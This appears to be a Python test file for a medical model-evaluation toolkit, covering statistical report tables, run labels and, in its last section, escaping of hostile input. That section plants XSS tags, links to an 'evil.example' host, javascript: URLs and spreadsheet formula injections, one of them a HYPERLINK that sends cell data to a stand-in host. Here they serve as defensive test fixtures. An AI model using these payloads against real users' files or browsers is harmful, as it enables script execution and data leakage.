    Δ^V = (0.1 + 0.3 + 0.2)/3 = 0.2 → +20.0; Δ^K = (0.0 + 0.1)/2 = 0.05 → +5.0, over 2 of 3 models;
    Δ^VK = (0.2 + 0.4 + 0.6)/3 = 0.4 → +40.0. Another mitigation with one model gets no row."""
    from medheval.report.tables import clinhallu_average_table

    def run(model, dv, dk, dvk, mitigation="none"):
        metric = {"delta_v": dv, "delta_k": dk, "delta_vk": dvk, "counts": {"n": 5}}
        return {"settings": {"model": model, "mitigation": mitigation},
                "benchmarks": {"clinhallu:vqa_rad": {"metrics": {"clinhallu": metric}}}}

    runs = [run("m1", 0.1, 0.0, 0.2), run("m2", 0.3, 0.1, 0.4), run("m3", 0.2, None, 0.6), run("m1", 0.5, 0.5, 0.5, "vcd")]
    lines = clinhallu_average_table(runs).splitlines()
    assert lines[0] == "| Mitigation | Split | Source | Models | Δ^V | Δ^K | Δ^VK |"
    assert lines[2:] == ["| none | clinhallu:vqa_rad | all | 3: m1, m2, m3 | +20.0 | +5.0 (2 of 3) | +40.0 |"]
    assert clinhallu_average_table(runs[:1]) == ""


def test_comparison_table_adjusts_its_family_and_stars_the_adjusted_p(tmp_path, capsys):
    """none 10/20; vcd fixes all 10 wrong items (McNemar 2·2^-10 ≈ 0.002), pai fixes 5 (0.0625): a family of
    2. Holm: vcd's p × 2 ≈ 0.004 < 0.05, starred; pai's max(0.004, 0.0625) = 0.0625, not. The table shows raw
    and adjusted p, and the footer names the family; ``--p-adjust none`` drops the adjusted column."""
    grid = write_grid(tmp_path / "grid", {"none": BASE, "vcd": [True] * 20, "pai": BETTER})
    out = tmp_path / "report"
    assert main(["report", str(grid), "--output", str(out), "--no-plots", "--no-html"]) == 0
    markdown = (out / "report.md").read_text()
    assert "| Model | Mitigation | Split | Metric | none | mitigation | Δ | p | p (Holm) | n |" in markdown
    assert "| m | vcd | mm_vishal:all | Acc | 50.0 | 100.0 | +50.0* [" in markdown
    assert "| m | pai | mm_vishal:all | Acc | 50.0 | 75.0 | +25.0 [" in markdown
    assert "Family: the 2 comparisons of this table (every mitigation × split × metric against none" in markdown
    compared = {r["mitigation"]: r for r in json.loads((out / "report.json").read_text())["comparisons"]}
    assert compared["vcd"]["p_value"] == pytest.approx(2 / 1024, abs=0.002)
    assert compared["vcd"]["p_adjusted"] == pytest.approx(2 * compared["vcd"]["p_value"])
    assert compared["pai"]["p_adjusted"] == compared["pai"]["p_value"] and not compared["pai"]["significant"]
    assert compared["vcd"]["significant"] and compared["vcd"]["p_adjust"] == "holm"
    rows = list(csv.DictReader(io.StringIO((out / "tables.csv").read_text())))
    assert [r["column"] for r in rows if r["table"] == "mitigation_vs_none"][:6] == [
        "none", "mitigation", "Δ", "p", "p (Holm)", "n"]
    assert main(["report", str(grid), "--output", str(out), "--no-plots", "--no-html", "--p-adjust", "none"]) == 0
    markdown = (out / "report.md").read_text()
    assert "| none | mitigation | Δ | p | n |" in markdown and "p (Holm)" not in markdown
    assert "p unadjusted" in markdown
    assert main(["report", str(grid), "--output", str(out), "--no-plots", "--no-html", "--p-adjust", "bh"]) == 0
    assert "| p (Benjamini–Hochberg) |" in (out / "report.md").read_text()
    with pytest.raises(SystemExit):
        main(["report", str(grid), "--output", str(out), "--p-adjust", "bonferroni"])
    assert "invalid choice: 'bonferroni'" in capsys.readouterr().err


def test_runs_are_named_by_short_labels_that_name_the_control(tmp_path):
    """A grid with none, its no_image and blank controls and a VCD preset run, plus a second grid's none run: the
    HTML header, the figure legends and the caveats name them as results.md does (``m · none · no_image``), the
    two with-image ``none`` runs by their folders, the full settings once under "Run folders"."""
    from medheval.report.collect import run_labels
    from medheval.report.plots import _run_labels

    vcd = "vcd:preset=medheval,alpha=1.0,beta=0.1,noise_step=500,noise_seed=0"
    for folder, mitigation, control in (("none", "none", None), ("none__no_image", "none", "no_image"),
                                        ("none__blank", "none", "blank"), ("vcd", vcd, None)):
        run = write_run(tmp_path / "a" / folder, mitigation, BASE)
        results = json.loads((run / "results.json").read_text())
        results["warnings"] = [f"warning of {folder}"]
        if control:
            results["settings"]["control"] = {"kind": control}
        (run / "results.json").write_text(json.dumps(results))
    write_run(tmp_path / "b" / "none", "none", BASE)
    runs = find_runs([tmp_path / "a", tmp_path / "b"])
    names = sorted(run_labels(runs).values())
    assert names == [f"m · none ({tmp_path / 'a' / 'none'})", f"m · none ({tmp_path / 'b' / 'none'})",
                     "m · none · blank", "m · none · no_image", "m · vcd (medheval)"]
    assert _run_labels(runs) == run_labels(runs)  # the figure legends
    written = write_report([tmp_path / "a"], tmp_path / "report", plots=False)
    page = written["html"].read_text()
    assert "Runs (4): m · none, m · none · blank, m · none · no_image, m · vcd (medheval)</p>" in page
    assert f"<li>m · vcd (medheval): m · {vcd} (" in page
    caveats = json.loads(written["json"].read_text())["caveats"]
    assert "warning of none__no_image (m · none · no_image)" in caveats
    assert "warning of vcd (m · vcd (medheval))" in caveats and not any("noise_step" in line for line in caveats)
    markdown = written["markdown"].read_text()
    assert "Runs: `m · none`, `m · none · blank`, `m · none · no_image`, `m · vcd (medheval)`" in markdown
    assert f"- `m · vcd (medheval)`: `m · {vcd}` (" in markdown


# -- a hostile run folder plants nothing in report.md or tables.csv ------------------------------------------------
HOSTILE = "<img src=x onerror=alert(1)>"


def _hostile_run(tmp_path):
    """The audit's run folder: tags in the model name, mitigation, a warning, a split name and a category."""
    run = write_run(tmp_path / "r1", "none", [True, False, True, False], model="m" + HOSTILE + "`x`", prompt=True)
    results = json.loads((run / "results.json").read_text())
    results["warnings"] = ["warn" + HOSTILE + " ![pixel](https://evil.example/p.png) [click](javascript:alert(1))"]
    results["settings"]["mitigation"] = "vcd" + HOSTILE
    entry = results["benchmarks"].pop("mm_vishal:all")
    entry["metrics"]["close_ended_accuracy"]["accuracy_by_category"]["cat" + HOSTILE] = 0.5
    results["benchmarks"]["mm_vishal:all" + HOSTILE] = entry
    (run / "results.json").write_text(json.dumps(results))
    items = [json.loads(line) for line in (run / "scored.jsonl").read_text().splitlines()]
    for item in items:
        item.update(split="mm_vishal:all" + HOSTILE, category="cat" + HOSTILE)
    (run / "scored.jsonl").write_text("".join(json.dumps(item) + "\n" for item in items))
    return run


def test_report_md_escapes_caveats_footers_and_names_from_run_folders(tmp_path):
    from markdown_it import MarkdownIt

    write_report([_hostile_run(tmp_path)], tmp_path / "out", plots=False, html=False)
    markdown = (tmp_path / "out" / "report.md").read_text()
    assert "<img" not in markdown and "&lt;img src=x onerror=alert(1)&gt;" in markdown
    assert "- warn&lt;img" in markdown  # the warning, a caveat: shown as text
    assert "_Resampled: mm_vishal:all&lt;img" in markdown  # a footer naming the split
    rendered = MarkdownIt("commonmark").enable("table").render(markdown)
    assert "<img" not in rendered and "<a " not in rendered and "href" not in rendered
    assert "``m&lt;img src=x onerror=alert(1)&gt;`x` · vcd&lt;img" in markdown  # a backtick does not end the span


@pytest.mark.parametrize("grid", [False, True])
def test_results_md_escapes_warnings_caveats_and_names_from_results_json(grid, tmp_path):
    """results.md (one run, and a grid's side by side) from a hostile results.json: no raw tag, link or image."""
    from markdown_it import MarkdownIt

    from medheval.report.tables import write_grid_markdown, write_markdown

    results = json.loads((_hostile_run(tmp_path) / "results.json").read_text())
    results["labels"] = {"random_weights": "label" + HOSTILE + " [l](https://evil.example/)"}
    results["report"] = {"note": "note" + HOSTILE + " ![n](https://evil.example/n.png)"}
    results["benchmarks"]["mm_vishal:all" + HOSTILE]["metrics"]["close_ended_accuracy"].update(
        labeler="rules" + HOSTILE, x_note="metric note" + HOSTILE + " [m](javascript:alert(1))")
    results["scoring"] = {"judge": "openai:j" + HOSTILE, "non_default_options": {"chair": {"k" + HOSTILE: "v<i>"}}}
    path = tmp_path / "results.md"
    if grid:
        other = {**results, "settings": {**results["settings"], "mitigation": "none" + HOSTILE, "seed": "1" + HOSTILE}}
        write_grid_markdown([results, other], path)
    else:
        write_markdown(results, path)
    markdown = path.read_text()
    assert "<img" not in markdown and "<i>" not in markdown
    assert not re.search(r"(?<!\\)\]\(", markdown)  # no link or image: every "](" escaped
    assert "warn&lt;img src=x onerror=alert(1)&gt;" in markdown  # the warning, shown as text
    rendered = MarkdownIt("commonmark").enable("table").render(markdown)
    assert "<img" not in rendered and "<a " not in rendered and "href" not in rendered and "<i>" not in rendered
    assert "m&lt;img src=x onerror=alert(1)&gt;`x`" in markdown  # the model name


def test_md_text_and_md_code_escape_html_links_and_backticks():
    from medheval.report.tables import md_code, md_text

    assert md_text("a <b> & ![x](http://e/) [y](javascript:z)\nc|d") == \
        "a &lt;b&gt; &amp; !\\[x\\](http://e/) \\[y\\](javascript:z) c|d"  # a line, not a cell: | kept
    assert md_text("`--p-adjust holm|bh|none`") == "`--p-adjust holm|bh|none`"  # no backslash shows in the span
    assert md_code("plain") == "`plain`" and md_code("a`b") == "``a`b``" and md_code("`a``") == "``` `a`` ```"
    assert md_code("<i>\nx|y", cell=True) == "`&lt;i&gt; x\\|y`"


def test_tables_csv_neutralises_formulas_but_keeps_numbers(tmp_path):
    from medheval.report.tables import csv_cell

    run = write_run(tmp_path / "r1", "none", [True, False, True, False], model='=HYPERLINK("http://evil/?"&A1,"open")')
    write_report([run], tmp_path / "out", plots=False, html=False)
    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "tables.csv").read_text())))
    assert rows[1][1].startswith("'=HYPERLINK(") and not any(cell.startswith(("=", "@")) for row in rows for cell in row)
    for text in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=x", "\r=x", "-inf-1"):
        assert csv_cell(text) == "'" + text
    for kept in (-0.05, 3, "-0.05", "+1.2", "-1e-05", "1.5", "-inf", "nan", "–", "n/a", ""):
        assert csv_cell(kept) == kept
